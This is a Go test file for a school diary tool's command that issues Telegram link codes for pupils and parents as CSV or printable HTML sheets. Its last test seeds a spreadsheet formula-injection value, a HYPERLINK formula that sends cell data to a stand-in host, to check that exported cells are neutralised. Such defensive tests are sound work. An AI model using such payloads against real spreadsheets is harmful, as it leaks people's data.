package main

import (
	"bytes"
	"context"
	"crypto/hmac"
	"crypto/sha256"
	"encoding/base64"
	"encoding/csv"
	"html"
	"image/png"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/jackc/pgx/v5/pgxpool"

	"github.com/dnevnik/dnevnik/bot"
	"github.com/dnevnik/dnevnik/bot/bottest"
	"github.com/dnevnik/dnevnik/diary"
	"github.com/dnevnik/dnevnik/diary/diarytest"
)

// codesSchool is a fresh database with class 5Б of three pupils, one of them
// with markup in her name, an empty class and a pupil who has left.
func codesSchool(t *testing.T) (map[string]string, *pgxpool.Pool) {
	t.Helper()
	t.Parallel()
	url := diarytest.NewURL(t)
	pool, err := pgxpool.New(context.Background(), url)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(pool.Close)
	_, err = pool.Exec(context.Background(), `
WITH s AS (INSERT INTO schools (sourced_id, name) VALUES ('s1', 'Школа №1') RETURNING id),
c AS (INSERT INTO classes (sourced_id, school_id, title, kind)
      SELECT v.sourced_id, s.id, v.title, 'homeroom' FROM s, (VALUES ('c-5b', '5Б'), ('c-empty', '11В')) v (sourced_id, title)
      RETURNING id, sourced_id),
p AS (INSERT INTO people (sourced_id, school_id, role, family_name, given_name, middle_name, active)
      SELECT v.sourced_id, s.id, 'student', v.family, v.given, v.middle, v.active FROM s, (VALUES
        ('p-1', 'Ёлкина', 'Алёна', 'Сергеевна', true),
        ('p-2', 'Андреев', 'Пётр', '', true),
        ('p-3', 'Щукина', 'Анна "<Аня>"', 'Олеговна', true),
        ('p-4', 'Бывший', 'Ученик', '', false)) v (sourced_id, family, given, middle, active)
      RETURNING id)
INSERT INTO enrollments (class_id, person_id, role) SELECT c.id, p.id, 'student' FROM c, p WHERE c.sourced_id = 'c-5b'`)
	if err != nil {
		t.Fatalf("seed the school: %v", err)
	}
	return map[string]string{"DATABASE_URL": url, "DNEVNIK_SECRET": testSecret}, pool
}

func TestCodesCSV(t *testing.T) {
	env, pool := codesSchool(t)
	ctx := context.Background()
	start := time.Now()
	code, out, stderr := dnevnik(t, env, "codes", "--class", "c-5b", "--role", "guardian", "--bot", "@dnevnik_school_bot")
	if code != exitOK {
		t.Fatalf("exit %d\n%s", code, stderr)
	}
	if !strings.HasPrefix(out, "student_sourced_id,student_name,class,role,code,link,expires_at\n") {
		t.Fatalf("header: %q", out)
	}
	if !strings.Contains(stderr, "issued link codes") || !strings.Contains(stderr, "count=3") {
		t.Errorf("no summary on stderr: %q", stderr)
	}
	records, err := csv.NewReader(strings.NewReader(out)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	rows := records[1:]
	var names []string
	var hashes [][]byte
	seen := map[string]bool{}
	for _, r := range rows {
		names = append(names, r[0]+" "+r[1])
		compact, ok := diary.NormalizeCode(r[4])
		switch {
		case !ok || r[4] != diary.FormatCode(compact):
			t.Errorf("%s: code %q is not a grouped link code", r[0], r[4])
		case seen[compact]:
			t.Errorf("%s: code %s printed twice", r[0], r[4])
		case r[5] != "https://t.me/dnevnik_school_bot?start="+compact:
			t.Errorf("%s: link %q", r[0], r[5])
		case r[2] != "5Б" || r[3] != "guardian":
			t.Errorf("%s: class %q, role %q", r[0], r[2], r[3])
		}
		seen[compact] = true
		m := hmac.New(sha256.New, []byte(testSecret)) // stored keyed under DNEVNIK_SECRET
		m.Write([]byte(compact))
		hashes = append(hashes, m.Sum(nil))
		expires, err := time.Parse(time.RFC3339, r[6])
		if err != nil || !strings.HasSuffix(r[6], "Z") || expires.Before(start.Add(336*time.Hour).Truncate(time.Second)) ||
			expires.After(time.Now().Add(336*time.Hour)) {
			t.Errorf("%s: expires_at %q, want UTC, 336h from now", r[0], r[6])
		}
	}
	want := []string{"p-2 Андреев Пётр", "p-1 Ёлкина Алёна Сергеевна", `p-3 Щукина Анна "<Аня>" Олеговна`}
	if !slices.Equal(names, want) {
		t.Errorf("pupils %q, want %q", names, want)
	}

	var stored, matching int
	err = pool.QueryRow(ctx, `SELECT count(*), count(*) FILTER (WHERE code_hash = ANY($1) AND role = 'guardian') FROM link_codes`,
		hashes).Scan(&stored, &matching)
	if err != nil || stored != len(rows) || matching != len(rows) {
		t.Errorf("link_codes: %d rows, %d of the printed hashes (err %v), want %d", stored, matching, err, len(rows))
	}

	// The printed code is the real one: a parent can link with it.
	var account diary.AccountID
	if err := pool.QueryRow(ctx, `INSERT INTO accounts (telegram_user_id, chat_id) VALUES (77, 77) RETURNING id`).Scan(&account); err != nil {
		t.Fatal(err)
	}
	linked, err := newStore(pool, []string{testSecret}).Redeem(ctx, account, 77, rows[1][4])
	if err != nil || linked.Role != diary.RoleGuardian || linked.Person.FamilyName != "Ёлкина" {
		t.Errorf("redeem the printed code: %+v, %v", linked, err)
	}
}

var (
	sheetCode = regexp.MustCompile(`<div class="code">([A-Z0-9-]+)</div>`)
	sheetQR   = regexp.MustCompile(`src="(data:image/png;base64,[^"]+)"`)
)

func TestCodesHTML(t *testing.T) {
	env, _ := codesSchool(t)
	code, out, stderr := dnevnik(t, env, "codes", "--class", "c-5b", "--role", "student", "--format", "html", "--bot", "dnevnik_school_bot")
	if code != exitOK {
		t.Fatalf("exit %d\n%s", code, stderr)
	}
	if n := strings.Count(out, `<section class="card">`); n != 3 {
		t.Errorf("%d cards, want 3", n)
	}
	codes := sheetCode.FindAllStringSubmatch(out, -1)
	qrs := sheetQR.FindAllStringSubmatch(out, -1)
	if len(codes) != 3 || len(qrs) != 3 {
		t.Fatalf("%d codes and %d QR images, want 3 each", len(codes), len(qrs))
	}
	for i, c := range codes {
		compact, ok := diary.NormalizeCode(c[1])
		if !ok {
			t.Errorf("card %d: code %q", i, c[1])
		}
		uri := html.UnescapeString(qrs[i][1]) // html/template writes + as &#43;
		img, err := base64.StdEncoding.DecodeString(strings.TrimPrefix(uri, "data:image/png;base64,"))
		if err == nil {
			_, err = png.Decode(bytes.NewReader(img))
		}
		if err != nil {
			t.Errorf("card %d: QR image: %v", i, err)
		}
		// The QR code on a card is that card's link.
		if want, _ := qrDataURI(bot.StartLink("dnevnik_school_bot", compact)); uri != string(want) {
			t.Errorf("card %d: the QR code is not of the link for %s", i, c[1])
		}
	}
	for _, want := range []string{
		`<html lang="ru">`, "@page { size: A4;", "break-inside: avoid",
		"Ёлкина Алёна Сергеевна", "Щукина Анна &#34;&lt;Аня&gt;&#34; Олеговна", "5Б", "Код для ученика",
		"Откройте Telegram и наведите камеру телефона на QR-код или найдите бота @dnevnik_school_bot.",
		"Нажмите «Запустить».", "Действует до ",
	} {
		if !strings.Contains(out, want) {
			t.Errorf("sheet lacks %q", want)
		}
	}
	if strings.Contains(out, "<Аня>") || strings.Contains(out, "Бывший") || strings.Contains(out, "http://") {
		t.Error("sheet has an unescaped name, a pupil who left, or an external resource")
	}

	code, out, _ = dnevnik(t, env, "codes", "--class", "c-5b", "--role", "guardian", "--format", "html", "--lang", "en", "--bot", "dnevnik_school_bot")
	if code != exitOK || !strings.Contains(out, `<html lang="en">`) || !strings.Contains(out, "Code for a parent") ||
		!strings.Contains(out, "find the bot @dnevnik_school_bot") {
		t.Errorf("English sheet: exit %d", code)
	}
}

func TestCodesAsksTelegramForTheBot(t *testing.T) {
	env, _ := codesSchool(t)
	fake := bottest.New(goodToken)
	defer fake.Close()
	env["TELEGRAM_TOKEN"] = goodToken
	env["TELEGRAM_API_URL"] = fake.URL()

	code, out, stderr := dnevnik(t, env, "codes", "--class", "c-5b", "--role", "guardian")
	if code != exitOK || !strings.Contains(out, ",https://t.me/dnevnik_test_bot?start=") {
		t.Fatalf("exit %d\n%s%s", code, out, stderr)
	}
	if n := len(fake.Calls("getMe")); n != 1 {
		t.Errorf("%d getMe calls, want 1", n)
	}
}

func TestCodesUsageErrors(t *testing.T) {
	env := map[string]string{"DATABASE_URL": "postgres://nobody@127.0.0.1:1/none", "DNEVNIK_SECRET": testSecret}
	bot := "--bot=dnevnik_school_bot"
	for _, c := range []struct {
		args []string
		want string
	}{
		{[]string{"--role", "guardian", bot}, "--class is required"},
		{[]string{"--class", "c", bot}, `--role is ""`},
		{[]string{"--class", "c", "--role", "teacher", bot}, `--role is "teacher"`},
		{[]string{"--class", "c", "--role", "guardian", "--format", "pdf", bot}, `--format is "pdf"`},
		{[]string{"--class", "c", "--role", "guardian", "--ttl", "0s", bot}, "--ttl is 0s"},
		{[]string{"--class", "c", "--role", "guardian", "--ttl", "two weeks", bot}, `invalid value "two weeks" for flag -ttl`},
		{[]string{"--class", "c", "--role", "guardian", "--lang", "de", bot}, `--lang is "de"`},
		{[]string{"--class", "c", "--role", "guardian", "--bot", "no spaces"}, `--bot is "no spaces"`},
		{[]string{"--class", "c", "--role", "guardian", bot, "extra"}, `unexpected argument "extra"`},
		// Without --bot the token is needed, and its absence is a configuration error.
		{[]string{"--class", "c", "--role", "guardian"}, "TELEGRAM_TOKEN is not set"},
	} {
		code, out, stderr := dnevnik(t, env, append([]string{"codes"}, c.args...)...)
		if code != exitUsage || out != "" || !strings.Contains(stderr, c.want) {
			t.Errorf("%q: exit %d, stdout %q, stderr %q; want exit %d and %q", c.args, code, out, stderr, exitUsage, c.want)
		}
	}
}

func TestCodesFailures(t *testing.T) {
	env, pool := codesSchool(t)
	for _, c := range []struct {
		args []string
		exit int
		want string
	}{
		{[]string{"--class", "nope"}, exitFailure, `dnevnik codes: no active class has the sourced id "nope"`},
		{[]string{"--class", "c-empty"}, exitFailure, `dnevnik codes: class "c-empty" has no active pupils: no codes issued`},
		{[]string{"--class", "c-5b", "--ttl", "9000h"}, exitUsage, "dnevnik codes: diary: invalid: code lifetime 9000h0m0s"},
	} {
		args := append([]string{"codes", "--role", "guardian", "--bot", "dnevnik_school_bot"}, c.args...)
		code, out, stderr := dnevnik(t, env, args...)
		if code != c.exit || out != "" || !strings.HasPrefix(stderr, c.want+"\n") {
			t.Errorf("%q: exit %d, stdout %q, stderr %q; want exit %d and %q", c.args, code, out, stderr, c.exit, c.want)
		}
	}
	var stored int
	if err := pool.QueryRow(context.Background(), `SELECT count(*) FROM link_codes`).Scan(&stored); err != nil || stored != 0 {
		t.Errorf("failures stored %d codes (%v)", stored, err)
	}
}

// A name a spreadsheet would read as a formula is written inert: the sheet
// that holds every family's code runs nothing from the school's export.
func TestCodesCSVCellsAreInert(t *testing.T) {
	t.Parallel()
	url := diarytest.NewURL(t)
	pool, err := pgxpool.New(context.Background(), url)
	if err != nil {
		t.Fatal(err)
	}
	defer pool.Close()
	_, err = pool.Exec(context.Background(), `
WITH s AS (INSERT INTO schools (sourced_id, name) VALUES ('s1', 'Школа №1') RETURNING id),
c AS (INSERT INTO classes (sourced_id, school_id, title, kind) SELECT 'c-1', s.id, '=1+1', 'homeroom' FROM s RETURNING id),
p AS (INSERT INTO people (sourced_id, school_id, role, family_name, given_name)
      SELECT v.sourced_id, s.id, 'student', v.family, v.given FROM s, (VALUES
        ('p-1', '=HYPERLINK("http://example.invalid/?"&A1;"x")', 'A'),
        ('p-2', '+7', 'B'), ('p-3', '-2', 'C'), ('p-4', '@SUM(A1)', 'D'), ('p-5', 'Обычная', 'Анна')) v (sourced_id, family, given)
      RETURNING id)
INSERT INTO enrollments (class_id, person_id, role) SELECT c.id, p.id, 'student' FROM c, p`)
	if err != nil {
		t.Fatal(err)
	}
	code, out, stderr := dnevnik(t, map[string]string{"DATABASE_URL": url, "DNEVNIK_SECRET": testSecret}, "codes", "--class", "c-1", "--role", "guardian", "--bot", "b_bot")
	if code != exitOK {
		t.Fatalf("exit %d\n%s", code, stderr)
	}
	records, err := csv.NewReader(strings.NewReader(out)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, r := range records[1:] {
		for _, cell := range []string{r[1], r[2]} {
			if strings.ContainsAny(cell[:1], "=+-@\t\r") {
				t.Errorf("%s: cell %q begins a formula", r[0], cell)
			}
		}
		if r[0] == "p-5" && r[1] != "Обычная Анна" {
			t.Errorf("a plain name became %q", r[1])
		}
	}
	if !strings.Contains(out, `'=HYPERLINK(`) || !strings.Contains(out, "'=1+1") || !strings.Contains(out, "'@SUM(A1) D") {
		t.Errorf("the formulas are not kept as text:\n%s", out)
	}
}
